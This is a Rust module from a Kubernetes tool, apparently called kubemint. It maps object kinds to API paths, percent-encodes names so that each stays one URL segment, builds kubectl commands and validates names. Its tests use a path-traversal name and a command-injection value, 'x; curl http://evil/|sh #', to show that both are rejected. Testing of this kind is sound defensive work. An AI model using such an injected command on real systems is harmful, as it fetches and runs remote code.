//! The kinds of Kubernetes objects that kubemint reads and writes, and how they are addressed.
//!
//! Pure: no I/O, no clock.

use std::fmt;

use percent_encoding::{AsciiSet, NON_ALPHANUMERIC, utf8_percent_encode};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::inventory::syntax;
use crate::wording;

/// What a path segment holds as it is: unreserved characters, and `:` and `@` (RFC 3986, 3.3).
const SEGMENT: &AsciiSet =
    &NON_ALPHANUMERIC.remove(b'-').remove(b'.').remove(b'_').remove(b'~').remove(b':').remove(b'@');

/// Encodes one segment of a path: whatever a name holds, it stays one segment.
fn segment(name: &str) -> String {
    match name {
        // Proxies and servers resolve these before anybody sees them.
        "." => "%2E".to_owned(),
        ".." => "%2E%2E".to_owned(),
        name => utf8_percent_encode(name, SEGMENT).to_string(),
    }
}

/// A kind of object, ordered as an apply writes them: what is referred to comes first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, JsonSchema)]
pub(crate) enum Kind {
    /// A namespace.
    Namespace,
    /// The identity behind an access profile.
    ServiceAccount,
    /// Cluster-wide rules.
    ClusterRole,
    /// Rules of one namespace.
    Role,
    /// Cluster-wide assignment of a role.
    ClusterRoleBinding,
    /// Assignment of a role in one namespace.
    RoleBinding,
    /// An anchor, or what a credential is delivered to.
    Secret,
    /// Sveltos' registration of a cluster.
    SveltosCluster,
    /// Calico's registration of a cluster.
    RemoteClusterConfiguration,
    /// A cluster in the ClusterProfile API of SIG Multicluster.
    ClusterProfile,
}

impl Kind {
    /// The RBAC kinds, which are listed once per cluster.
    pub(crate) const RBAC: [Self; 4] = [Self::ClusterRole, Self::Role, Self::ClusterRoleBinding, Self::RoleBinding];

    /// Returns the `apiVersion`.
    pub(crate) fn api_version(self) -> &'static str {
        match self {
            Self::Namespace | Self::ServiceAccount | Self::Secret => "v1",
            Self::ClusterRole | Self::Role | Self::ClusterRoleBinding | Self::RoleBinding => {
                "rbac.authorization.k8s.io/v1"
            }
            Self::SveltosCluster => "lib.projectsveltos.io/v1beta1",
            Self::RemoteClusterConfiguration => "projectcalico.org/v3",
            Self::ClusterProfile => "multicluster.x-k8s.io/v1alpha1",
        }
    }

    /// Returns the API group, `""` for the core group.
    pub(crate) fn group(self) -> &'static str {
        self.api_version().split_once('/').map_or("", |(group, _)| group)
    }

    /// Returns the kind as it is written in manifests.
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Self::Namespace => "Namespace",
            Self::ServiceAccount => "ServiceAccount",
            Self::ClusterRole => "ClusterRole",
            Self::Role => "Role",
            Self::ClusterRoleBinding => "ClusterRoleBinding",
            Self::RoleBinding => "RoleBinding",
            Self::Secret => "Secret",
            Self::SveltosCluster => "SveltosCluster",
            Self::RemoteClusterConfiguration => "RemoteClusterConfiguration",
            Self::ClusterProfile => "ClusterProfile",
        }
    }

    /// Returns the resource, as it stands in URLs and in RBAC rules.
    pub(crate) fn resource(self) -> &'static str {
        match self {
            Self::Namespace => "namespaces",
            Self::ServiceAccount => "serviceaccounts",
            Self::ClusterRole => "clusterroles",
            Self::Role => "roles",
            Self::ClusterRoleBinding => "clusterrolebindings",
            Self::RoleBinding => "rolebindings",
            Self::Secret => "secrets",
            Self::SveltosCluster => "sveltosclusters",
            Self::RemoteClusterConfiguration => "remoteclusterconfigurations",
            Self::ClusterProfile => "clusterprofiles",
        }
    }

    fn root(self) -> String {
        let root = if self.group().is_empty() { "api" } else { "apis" };
        format!("/{root}/{}", self.api_version())
    }

    /// Returns the path of the collection, encoded for a URL: in one namespace, or in the whole cluster.
    pub(crate) fn collection_path(self, namespace: Option<&str>) -> String {
        match namespace {
            Some(namespace) => {
                format!("{}/namespaces/{}/{}", self.root(), segment(namespace), self.resource())
            }
            None => format!("{}/{}", self.root(), self.resource()),
        }
    }
}

impl fmt::Display for Kind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The address of one object in one cluster.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, JsonSchema)]
pub(crate) struct ObjectRef {
    /// The kind.
    pub kind: Kind,
    /// The namespace, absent for cluster-scoped kinds.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub namespace: Option<String>,
    /// The name.
    pub name: String,
}

impl ObjectRef {
    /// Addresses a cluster-scoped object.
    pub(crate) fn cluster_scoped(kind: Kind, name: impl Into<String>) -> Self {
        Self { kind, namespace: None, name: name.into() }
    }

    /// Returns the address of a Secret that tokens of a ServiceAccount are bound to: it stands beside it.
    pub(crate) fn anchor_of(account: &Self, name: impl Into<String>) -> Self {
        Self { kind: Kind::Secret, namespace: account.namespace.clone(), name: name.into() }
    }

    /// Returns the address of a Secret that a credential is delivered to.
    pub(crate) fn delivered(namespace: impl Into<String>, name: impl Into<String>) -> Self {
        Self { kind: Kind::Secret, namespace: Some(namespace.into()), name: name.into() }
    }

    /// Addresses an object in a namespace.
    pub(crate) fn namespaced(kind: Kind, namespace: impl Into<String>, name: impl Into<String>) -> Self {
        Self { kind, namespace: Some(namespace.into()), name: name.into() }
    }

    /// Returns the path of the collection that the object is in.
    pub(crate) fn collection_path(&self) -> String {
        self.kind.collection_path(self.namespace.as_deref())
    }

    /// Returns the path of the object, encoded for a URL.
    pub(crate) fn path(&self) -> String {
        format!("{}/{}", self.collection_path(), segment(&self.name))
    }

    /// Returns a kubectl command about the object, for copying.
    pub(crate) fn kubectl(&self, verb: &str, more: &[&str]) -> String {
        let kind = self.kind.as_str().to_lowercase();
        let mut words = vec!["kubectl", verb, kind.as_str()];
        if let Some(namespace) = &self.namespace {
            words.extend(["-n", namespace.as_str()]);
        }
        words.push(&self.name);
        words.extend(more);
        wording::command(&words)
    }

    /// Whether Kubernetes could have an object of this name in this namespace. What a server says that has
    /// another name is not used: names end up in URLs and in commands to copy.
    pub(crate) fn is_possible(&self) -> bool {
        let is_namespace = |name: &str| syntax::dns_label(name).is_ok();
        let name = self.name.as_str();
        let is_named = match self.kind {
            Kind::Namespace => is_namespace(name),
            Kind::ServiceAccount
            | Kind::Secret
            | Kind::SveltosCluster
            | Kind::RemoteClusterConfiguration
            | Kind::ClusterProfile => syntax::dns_subdomain(name).is_ok(),
            Kind::ClusterRole | Kind::Role | Kind::ClusterRoleBinding | Kind::RoleBinding => {
                syntax::path_segment(name).is_ok()
            }
        };
        is_named && self.namespace.as_deref().is_none_or(is_namespace)
    }
}

/// Shows as ``ServiceAccount `ci/deployer` ``, the form of messages.
impl fmt::Display for ObjectRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.namespace {
            Some(namespace) => write!(f, "{} `{namespace}/{}`", self.kind, self.name),
            None => write!(f, "{} `{}`", self.kind, self.name),
        }
    }
}

/// The role that a binding assigns.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, JsonSchema)]
pub(crate) struct RoleRef {
    /// [`Kind::ClusterRole`] or [`Kind::Role`].
    pub kind: Kind,
    /// The role's name.
    pub name: String,
}

impl RoleRef {
    /// Returns whether it is the role that every cluster has and that allows everything.
    pub(crate) fn is_everything(&self) -> bool {
        self.kind == Kind::ClusterRole && self.name == "cluster-admin"
    }

    /// Returns the address of the role that a binding in `namespace` assigns; a ClusterRole has none of its own.
    pub(crate) fn object(&self, namespace: Option<&str>) -> ObjectRef {
        let namespace = namespace.filter(|_| self.kind == Kind::Role).map(str::to_owned);
        ObjectRef { kind: self.kind, namespace, name: self.name.clone() }
    }
}

impl fmt::Display for RoleRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} `{}`", self.kind, self.name)
    }
}

/// Whom a binding assigns its role to.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub(crate) struct Subject {
    /// `ServiceAccount`, `User` or `Group`.
    pub kind: String,
    /// The namespace of a ServiceAccount.
    pub namespace: Option<String>,
    /// The name.
    pub name: String,
}

impl fmt::Display for Subject {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.namespace {
            Some(namespace) => write!(f, "{} {namespace}/{}", self.kind, self.name),
            None => write!(f, "{} {}", self.kind, self.name),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The names of an index or a list may be anybody's text.
    #[test]
    fn a_name_never_leaves_its_segment_of_the_path() {
        let path = |namespace: &str, name: &str| ObjectRef::namespaced(Kind::Secret, namespace, name).path();
        assert_eq!(path("ci", "reader-1"), "/api/v1/namespaces/ci/secrets/reader-1");
        assert_eq!(
            path("a/b?c", "../../../../api/v1/namespaces/x"),
            "/api/v1/namespaces/a%2Fb%3Fc/secrets/..%2F..%2F..%2F..%2Fapi%2Fv1%2Fnamespaces%2Fx"
        );
        assert_eq!(path("..", "."), "/api/v1/namespaces/%2E%2E/secrets/%2E");
        let role = ObjectRef::cluster_scoped(Kind::ClusterRole, "kubemint:acme:x%20 y");
        assert_eq!(role.path(), "/apis/rbac.authorization.k8s.io/v1/clusterroles/kubemint:acme:x%2520%20y");
    }

    #[test]
    fn impossible_names_are_known() {
        let secret = |namespace: &str, name: &str| ObjectRef::namespaced(Kind::Secret, namespace, name).is_possible();
        assert!(secret("ci", "a.b-1"));
        for (namespace, name) in
            [("ci", ""), ("ci", "x; curl http://evil/|sh #"), ("ci", "A"), ("", "a"), ("../x", "a")]
        {
            assert!(!secret(namespace, name), "{namespace}/{name}");
        }
        let role = |name: &str| ObjectRef::cluster_scoped(Kind::ClusterRole, name).is_possible();
        assert!(role("kubemint:acme:reader") && !role("..") && !role("a/b"));
    }
}
